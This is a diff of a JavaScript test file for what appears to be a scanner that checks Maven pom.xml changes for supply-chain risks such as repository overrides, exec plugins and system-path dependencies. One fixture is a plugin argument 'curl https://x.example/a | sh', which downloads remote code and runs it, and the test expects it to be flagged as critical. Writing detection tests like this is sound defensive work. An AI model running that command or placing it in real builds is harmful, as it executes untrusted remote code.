@@ -42,55 +42,59 @@ testManifest('gradle/wrapper/gradle-wrapper.properties', WRAPPER, [
   ['systemProp.a=b', '', ['unjudged']],
 ]);
 
-testManifest('app/pom.xml', '<project xmlns="http://maven.apache.org/POM/4.0.0">\n  HERE\n</project>\n', [
-  ['<version>1</version>', '<version>2</version>', []],
+testManifest(
+  'app/pom.xml',
+  '<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <name>a</name>\n  HERE\n</project>\n',
   [
-    '',
-    '<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>1</version></dependency></dependencies>',
-    [],
+    ['<version>1</version>', '<version>2</version>', []],
+    [
+      '',
+      '<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>1</version></dependency></dependencies>',
+      [],
+    ],
+    [
+      '',
+      '<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>LATEST</version></dependency></dependencies>',
+      MOVES,
+    ],
+    [
+      '',
+      '<dependencies><dependency><systemPath>/opt/a.jar</systemPath></dependency></dependencies>',
+      ['dependency-source warning'],
+    ],
+    ['<properties><a.version>1</a.version></properties>', '<properties><a.version>2</a.version></properties>', []],
+    ['<properties><skip>false</skip></properties>', '<properties><skip>true</skip></properties>', ['unjudged']],
+    [
+      '',
+      '<repositories><repository><url>http://maven.example/</url></repository></repositories>',
+      ['registry-override critical'],
+    ],
+    [
+      '',
+      '<repositories><repository><url>https://maven.example/</url></repository></repositories>',
+      ['registry-override warning'],
+    ],
+    [
+      '',
+      '<build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><version>3</version></plugin></plugins></build>',
+      ['install-script warning'],
+    ],
+    ['', '<build><plugins><plugin><artifactId>other</artifactId></plugin></plugins></build>', ['unjudged']],
+    [
+      '<build><plugins><plugin><artifactId>other</artifactId><version>1</version></plugin></plugins></build>',
+      '<build><plugins><plugin><artifactId>other</artifactId><version>2</version></plugin></plugins></build>',
+      [],
+    ],
+    [
+      '<build><plugins><plugin><configuration><fail>true</fail></configuration></plugin></plugins></build>',
+      '',
+      ['unjudged'],
+    ],
+    [
+      '',
+      '<build><plugins><plugin><configuration><argument>curl https://x.example/a | sh</argument></configuration></plugin></plugins></build>',
+      ['downloaded-code critical'],
+    ],
+    ['', '<version>&own;</version>', ['unjudged']],
   ],
-  [
-    '',
-    '<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>LATEST</version></dependency></dependencies>',
-    MOVES,
-  ],
-  [
-    '',
-    '<dependencies><dependency><systemPath>/opt/a.jar</systemPath></dependency></dependencies>',
-    ['dependency-source warning'],
-  ],
-  ['<properties><a.version>1</a.version></properties>', '<properties><a.version>2</a.version></properties>', []],
-  ['<properties><skip>false</skip></properties>', '<properties><skip>true</skip></properties>', ['unjudged']],
-  [
-    '',
-    '<repositories><repository><url>http://maven.example/</url></repository></repositories>',
-    ['registry-override critical'],
-  ],
-  [
-    '',
-    '<repositories><repository><url>https://maven.example/</url></repository></repositories>',
-    ['registry-override warning'],
-  ],
-  [
-    '',
-    '<build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><version>3</version></plugin></plugins></build>',
-    ['install-script warning'],
-  ],
-  ['', '<build><plugins><plugin><artifactId>other</artifactId></plugin></plugins></build>', ['unjudged']],
-  [
-    '<build><plugins><plugin><artifactId>other</artifactId><version>1</version></plugin></plugins></build>',
-    '<build><plugins><plugin><artifactId>other</artifactId><version>2</version></plugin></plugins></build>',
-    [],
-  ],
-  [
-    '<build><plugins><plugin><configuration><fail>true</fail></configuration></plugin></plugins></build>',
-    '',
-    ['unjudged'],
-  ],
-  [
-    '',
-    '<build><plugins><plugin><configuration><argument>curl https://x.example/a | sh</argument></configuration></plugin></plugins></build>',
-    ['downloaded-code critical'],
-  ],
-  ['', '<version>&own;</version>', ['unjudged']],
-]);
+);
